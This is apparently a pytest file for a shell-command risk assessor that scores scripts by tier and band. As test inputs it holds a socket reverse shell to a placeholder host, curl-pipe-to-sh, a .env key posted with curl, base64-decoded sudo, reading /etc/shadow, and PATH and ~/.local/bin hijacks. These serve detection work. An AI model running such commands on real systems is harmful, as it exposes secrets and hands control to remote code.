"""Shell scripts are judged by what the shell would make of them, however they are spelled."""

from __future__ import annotations

from pathlib import Path

import pytest

from audit.risk.assessor import assess, assess_argv
from audit.risk.shell.table import RULES

DATA = Path(__file__).parents[2] / "data" / "risk"
DANGERS = (DATA / "shell-dangers.txt").read_text().strip().split("\n%%\n")
HARMLESS = (DATA / "shell-harmless.txt").read_text().strip().split("\n%%\n")


def rules(code: str) -> set[str]:
    return {found.rule for found in assess(code.encode(), "bash").findings}


@pytest.mark.parametrize("case", HARMLESS)
def test_everyday_commands_keep_their_tier_and_score_low(case: str) -> None:
    tier, code = case.split(" ", 1)
    judged = assess(code.encode(), "bash")
    assert (judged.tier, judged.band, judged.unassessable) == (tier, "low", None), judged.findings


@pytest.mark.parametrize("code", DANGERS)
def test_dangers_are_found_in_every_spelling(code: str) -> None:
    judged = assess(code.encode(), "bash")
    assert judged.tier == "L3", judged.findings
    assert judged.unassessable is None
    assert judged.score >= 25


def test_a_finding_names_its_rule_its_place_and_its_words() -> None:
    judged = assess(b"echo one\nsudo id\n", "bash")
    found = next(found for found in judged.findings if found.rule == "sh.priv.root")
    assert (found.title, found.kind, found.weight, found.tier) == ("Becomes another user", "indicator", 50, "L3")
    assert found.span is not None
    assert (found.span.line, found.span.column, found.span.end_line, found.span.end_column) == (2, 0, 2, 7)
    assert found.snippet == "sudo id"
    assert judged.floor_reason == "Takes the rights of another user."


def test_a_place_inside_a_string_is_that_of_the_command_that_runs_it() -> None:
    judged = assess(b"true\nbash -c 'sudo id'\n", "bash")
    found = next(found for found in judged.findings if found.rule == "sh.priv.root")
    assert found.span is not None
    assert (found.span.line, found.snippet) == (2, "bash -c 'sudo id'")


def test_places_count_characters() -> None:
    judged = assess("echo 'äöü'; sudo id".encode(), "bash")
    found = next(found for found in judged.findings if found.rule == "sh.priv.root")
    assert found.span is not None
    assert (found.span.column, found.span.offset, found.span.end_offset) == (12, 12, 19)


def test_a_name_that_only_running_would_tell_is_dynamic() -> None:
    assert "sh.dyn.unresolved" in rules("x=$(./choose); $x file")
    assert "sh.dyn.unresolved" in rules('"$1" file')
    assert "sh.dyn.unresolved" not in rules("x=cat; $x file")


def test_a_decoded_command_is_judged_by_its_text() -> None:
    assert {"sh.dyn.decoded", "sh.priv.root"} <= rules("echo c3VkbyBpZA== | base64 -d | sh")


def test_decoding_alone_is_harmless() -> None:
    assert rules("echo c3VkbyBpZA== | base64 -d") == set()


def test_a_download_that_is_run_is_worse_than_one_that_is_kept() -> None:
    kept = assess(b"curl -fsS https://files.example/a -o a", "bash")
    run = assess(b"curl -fsS https://files.example/a -o a; sh a", "bash")
    assert (kept.tier, kept.band) == ("L2", "medium")
    assert (run.tier, run.band) == ("L3", "high")


def test_a_shell_that_reads_a_descriptor_beside_a_connection_is_a_shell_on_a_socket() -> None:
    assert "sh.corr.network-shell" in rules("exec 5<>/dev/tcp/h.example/80; sh <&5 >&5")
    assert "sh.corr.network-shell" not in rules("exec 5< steps; sh <&5")


def test_two_signs_of_one_disguise_count_once() -> None:
    judged = assess(b'eval "$1"', "bash")
    assert {found.rule: found.weight for found in judged.findings} == {"sh.dyn.unresolved": 52, "sh.dyn.eval": 15}
    assert judged.band == "high"


def test_either_value_of_a_variable_counts() -> None:
    assert assess(b"x=ls; if [ -e a ]; then x=sudo; fi; $x id", "bash").tier == "L3"
    assert assess(b"x=sudo; if [ -e a ]; then x=ls; fi; $x id", "bash").tier == "L3"


def test_what_a_subshell_sets_stays_in_it() -> None:
    assert assess(b"x=ls; (x=sudo); $x", "bash").tier == "L1"


def test_a_function_counts_also_when_nothing_calls_it() -> None:
    assert assess(b"f() { sudo id; }", "bash").tier == "L3"


def test_a_function_is_judged_with_its_arguments() -> None:
    assert assess(b'run() { "$@"; }; run ls', "bash").tier == "L1"
    assert assess(b'run() { "$@"; }; run sudo id', "bash").tier == "L3"


@pytest.mark.parametrize("code", ["rm -rf build", "rm -rf ./dist node_modules", "find . -name '*.pyc' -delete"])
def test_removing_folders_of_the_workspace_is_medium(code: str) -> None:
    judged = assess(code.encode(), "bash")
    assert (judged.tier, judged.band) == ("L1", "medium")


@pytest.mark.parametrize(
    ("code", "band"),
    [
        ("pip install requests==2.32.3", "medium"),
        ("pip install -r requirements.txt", "medium"),
        ("npm ci", "medium"),
        ("apt-get install -y jq", "medium"),
        ("npm install left-pad@latest", "high"),
        ("pip install git+https://git.example/tool.git", "high"),
        ("pip install --extra-index-url https://index.example requests==2.32.3", "high"),
    ],
)
def test_what_is_installed_decides_how_risky_it_is(code: str, band: str) -> None:
    judged = assess(code.encode(), "bash")
    assert (judged.tier, judged.band) == ("L2", band)


def test_text_that_is_no_shell_is_never_low() -> None:
    judged = assess(b"if then fi ((( <<", "bash")
    assert judged.tier >= "L2"
    assert judged.band != "low"


@pytest.mark.parametrize("code", ["echo a\0b", "echo \u202etxt.exe", "echo a\u200bb"])
def test_invisible_characters_are_a_finding(code: str) -> None:
    assert "sh.evade.text" in rules(code)


def test_more_statements_than_anybody_reads_are_not_followed_and_said_to_be() -> None:
    assert "sh.dyn.depth" in rules("true\n" * 30_000)


def test_a_function_that_is_called_very_often_still_counts() -> None:
    calls = "".join(f"choose word{number}\n" for number in range(30))
    code = f"choose() {{ x=$1; }}\n{calls}choose sudo\n$x id"
    assert assess(code.encode(), "bash").tier == "L3"


def test_a_long_loop_ends_with_what_nobody_knows() -> None:
    items = " ".join(f"word{number}" for number in range(31))
    code = f"for a in {items}; do for b in {items}; do for c in {items} sudo; do x=$c; done; done; done; $x id"
    assert assess(code.encode(), "bash").tier == "L3"


@pytest.mark.parametrize(
    ("argv", "tier"),
    [
        (["ls", "-l"], "L1"),
        (["echo", "$(sudo id)"], "L0"),
        (["cat", "/etc/shadow"], "L3"),
        (["sudo", "id"], "L3"),
        (["sh", "-c", "sudo id"], "L3"),
        (["git", "status"], "L1"),
        (["uname", "-a"], "L2"),
        (["./prime", "7"], "L2"),
        (["nobody-knows-this"], "L2"),
    ],
)
def test_words_without_a_shell_are_judged_as_they_are(argv: list[str], tier: str) -> None:
    assert assess_argv(argv).tier == tier


def test_no_command_is_nothing() -> None:
    assert (assess(b"", "bash").score, assess(b"", "bash").tier) == (0, "L0")
    assert (assess_argv([]).score, assess_argv([]).tier) == (0, "L0")


def test_a_file_that_runs_later_counts_by_the_danger_in_it_and_not_by_its_everyday_lines() -> None:
    everyday = assess(b"printf 'test:\\n\\tpytest -q\\n' > Makefile", "bash")
    fetches = assess(b"printf 'test:\\n\\tcurl https://h.example/x | sh\\n' > Makefile", "bash")
    assert (everyday.tier, everyday.band) == ("L1", "low")
    assert "sh.corr.download-run" in {found.rule for found in fetches.findings}


def test_a_name_that_was_looked_up_is_no_disguise_and_one_that_was_printed_is() -> None:
    assert rules('"$(command -v uname)" -a') == {"sh.sys.info"}
    assert "sh.evade.shreds" in rules('"$(echo uname)" -a')


def test_a_file_with_a_commands_name_takes_its_place_only_where_commands_are_looked_for() -> None:
    assert "sh.persist.hook" in rules("cp tool ~/.local/bin/git")
    assert "sh.persist.hook" not in rules("cp tool tools/git")
    assert "sh.dyn.preload" in rules('echo ls > tools/git; PATH="$PWD/tools:$PATH"; git status')


def test_a_question_about_the_machine_is_no_change_of_it() -> None:
    assert rules("systemctl status web") == {"sh.sys.info", "sh.fs.read"}
    assert "sh.persist.service" in rules("systemctl enable status")


def test_what_a_header_says_is_how_a_caller_shows_who_it_is() -> None:
    token = "K=$(grep KEY .env | cut -d= -f2); curl {} https://h.example/"
    assert "sh.corr.secret-network" not in rules(token.format('-H "Authorization: $K"'))
    assert "sh.corr.secret-network" in rules(token.format('-d "$K"'))


EXAMPLES = [line.split(" %% ") for line in (DATA / "shell-rules.txt").read_text().strip().splitlines()]


@pytest.mark.parametrize(("rule", "matching", "other"), EXAMPLES)
def test_each_rule_matches_its_example_and_not_its_neighbour(rule: str, matching: str, other: str) -> None:
    assert rule in rules(matching)
    assert rule not in rules(other)


def test_each_rule_has_an_example() -> None:
    assert set(RULES) - {rule for rule, _, _ in EXAMPLES} - {"sh.evade.text"} == set()
